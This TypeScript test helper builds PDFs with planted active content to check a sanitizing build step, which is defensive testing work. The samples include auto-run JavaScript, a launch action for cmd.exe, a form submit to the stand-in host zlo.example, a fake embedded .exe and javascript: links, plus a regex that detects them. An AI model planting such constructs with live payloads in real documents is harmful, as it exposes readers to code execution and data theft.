/**
 * PDFs with planted active content (built with pdf-lib) and a qpdf view of a
 * PDF that tests can search, shared by the unit and build tests.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFString, type PDFRef } from 'pdf-lib';

export type Plant = (doc: PDFDocument, page: PDFDict) => void | Promise<void>;

const action = (doc: PDFDocument, fields: Record<string, unknown>): PDFRef => doc.context.register(doc.context.obj(fields as never));
const addAnnot = (doc: PDFDocument, page: PDFDict, fields: Record<string, unknown>) => {
  let annots = page.lookupMaybe(PDFName.of('Annots'), PDFArray);
  if (!annots) page.set(PDFName.of('Annots'), (annots = doc.context.obj([])));
  annots.push(doc.context.register(doc.context.obj({ Type: 'Annot', Rect: [0, 0, 10, 10], ...fields } as never)));
};
const js = (code: string) => PDFString.of(code);

/** Each kind of active content, planted with pdf-lib, and the label the build log gives it. */
export const KINDS: [string, Plant, string[]][] = [
  ['JavaScript run on opening', (doc) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'JavaScript', JS: js('app.alert("zlo")') })), ['akcja przy otwarciu dokumentu', 'skrypty JavaScript']],
  ['document-level JavaScript', (doc) => doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: { Names: [js('x'), action(doc, { S: 'JavaScript', JS: js('app.alert("zlo")') })] } } as never)), ['skrypty JavaScript']],
  ['a page-open action', (doc, page) => page.set(PDFName.of('AA'), doc.context.obj({ O: action(doc, { S: 'JavaScript', JS: js('app.alert("zlo")') }) } as never)), ['akcje uruchamiane przy otwarciu strony lub użyciu pola formularza', 'skrypty JavaScript']],
  ['a launch action', (doc, page) => addAnnot(doc, page, { Subtype: 'Link', A: { S: 'Launch', F: js('cmd.exe') } }), ['polecenia uruchomienia programu']],
  ['a submit-form action', (doc, page) => addAnnot(doc, page, { Subtype: 'Widget', FT: 'Btn', A: { S: 'SubmitForm', F: { FS: 'URL', F: js('https://zlo.example/zbieraj') } } }), ['wysyłanie formularza na zewnętrzny adres']],
  ['an import-data action', (doc, page) => addAnnot(doc, page, { Subtype: 'Widget', FT: 'Btn', A: { S: 'ImportData', F: js('dane.fdf') } }), ['import danych z innych plików']],
  ['a link to another file', (doc, page) => addAnnot(doc, page, { Subtype: 'Link', A: { S: 'GoToR', F: js('inny.pdf'), D: [0, 'Fit'] } }), ['odnośniki otwierające inne pliki']],
  ['a javascript: address', (doc, page) => addAnnot(doc, page, { Subtype: 'Link', A: { S: 'URI', URI: js('javascript:alert(1)') } }), ['odnośniki o niedozwolonym adresie']],
  ['a field calculation script', (doc, page) => addAnnot(doc, page, { Subtype: 'Widget', FT: 'Tx', T: js('pole'), AA: { K: { S: 'JavaScript', JS: js('event.value="zlo"') } } }), ['akcje uruchamiane przy otwarciu strony lub użyciu pola formularza']],
  ['an embedded file', async (doc) => doc.attach(Buffer.from('MZ program-zlo'), 'program.exe', { mimeType: 'application/x-msdownload' }), ['osadzone pliki']],
  ['a file attachment annotation', (doc, page) => addAnnot(doc, page, { Subtype: 'FileAttachment', FS: { Type: 'Filespec', F: js('a.exe'), EF: { F: doc.context.register(doc.context.flateStream('MZ program-zlo', { Type: 'EmbeddedFile' })) } } }), ['osadzone pliki']],
  ['rich media', (doc, page) => addAnnot(doc, page, { Subtype: 'RichMedia', RichMediaContent: { Assets: {} } }), ['multimedia (RichMedia, 3D, filmy, dźwięki)']],
  ['an XFA form', (doc) => doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: doc.context.register(doc.context.flateStream('<xdp:xdp>zlo-xfa</xdp:xdp>')) } as never)), ['formularz XFA']],
  ['a bookmark running JavaScript', (doc) => {
    const outlines = doc.context.obj({ Type: 'Outlines' } as never) as unknown as PDFDict;
    const outlinesRef = doc.context.register(outlines);
    const item = doc.context.register(doc.context.obj({ Title: js('Zakładka'), Parent: outlinesRef, A: { S: 'JavaScript', JS: js('app.alert("zlo")') } } as never));
    outlines.set(PDFName.of('First'), item);
    outlines.set(PDFName.of('Last'), item);
    doc.catalog.set(PDFName.of('Outlines'), outlinesRef);
  }, ['skrypty JavaScript']],
];

/** A one-page PDF with a harmless web link, plus what `plant` adds. */
export async function plantedPdf(plant: Plant): Promise<PDFDocument> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([200, 200]);
  page.drawText('Formularz');
  addAnnot(doc, page.node, { Subtype: 'Link', A: { S: 'URI', URI: js('https://example.org/regulamin') } });
  await plant(doc, page.node);
  return PDFDocument.load(await doc.save({ useObjectStreams: false }));
}

/** The saved PDF as qpdf writes it uncompressed, so that its objects can be searched. */
export function qdf(bytes: Uint8Array, name: string, work: string): string {
  const file = join(work, `${name}.pdf`);
  writeFileSync(file, bytes);
  // pdf-lib keeps the trailer's object count after objects are deleted; qpdf warns about it and repairs it.
  execFileSync('qpdf', ['--warning-exit-0', '--qdf', '--object-streams=disable', file, `${file}.qdf`], { stdio: 'ignore' });
  return readFileSync(`${file}.qdf`, 'latin1');
}

export const ACTIVE = /\/JavaScript|\/JS\b|\/Launch|\/SubmitForm|\/ImportData|\/GoToR|\/EmbeddedFile|\/RichMedia|\/XFA|\/OpenAction|\/AA\b|zlo|program\.exe|javascript:/;

